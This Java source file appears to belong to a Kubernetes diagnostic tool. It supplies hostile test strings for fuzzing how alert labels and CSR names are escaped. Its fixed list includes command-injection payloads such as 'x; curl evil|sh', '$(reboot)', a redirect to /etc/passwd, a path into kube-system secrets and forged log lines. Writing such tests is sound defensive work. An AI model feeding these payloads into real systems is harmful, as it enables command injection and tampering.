package io.kubeletdoctor.diagnosis;

import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Values an attacker would put into an alert label or a CSR name: a fixed list of known payloads,
 * then random strings thick with shell metacharacters, quotes and control characters (no NUL,
 * which no shell word can hold). Seeded, so a failure repeats.
 */
public final class HostileStrings {

	public static final List<String> KNOWN = List.of("x; curl evil|sh", "$(reboot)", "`reboot`", "a'b\"c",
			"'; reboot; '", "x\nreboot", "x\r\nFORGED 2026-01-01 INFO forged line", "\u001b[31mred\u001b[0m",
			"../namespaces/kube-system/secrets/x", "a && reboot", "a || reboot", "> /etc/passwd", "*", "~root",
			"-rf", "#comment", "{a,b}", "\\", "'", "\"", "\"$(reboot)\"", "\\'$(reboot)\\'", " ", "");

	private static final String SPECIAL = "'\"\\`$();|&<>\n\r\t *?[]{}~#!=%\u001b\u0007";

	private HostileStrings() {
	}

	public static Stream<String> all(int random) {
		Random generator = new Random(20261203L);
		return Stream.concat(KNOWN.stream(), IntStream.range(0, random).mapToObj((i) -> random(generator)));
	}

	private static String random(Random generator) {
		int length = generator.nextInt(40);
		StringBuilder value = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			value.append(generator.nextInt(4) == 0 ? (char) (1 + generator.nextInt(0xFFFE))
					: SPECIAL.charAt(generator.nextInt(SPECIAL.length())));
		}
		return value.toString();
	}

}
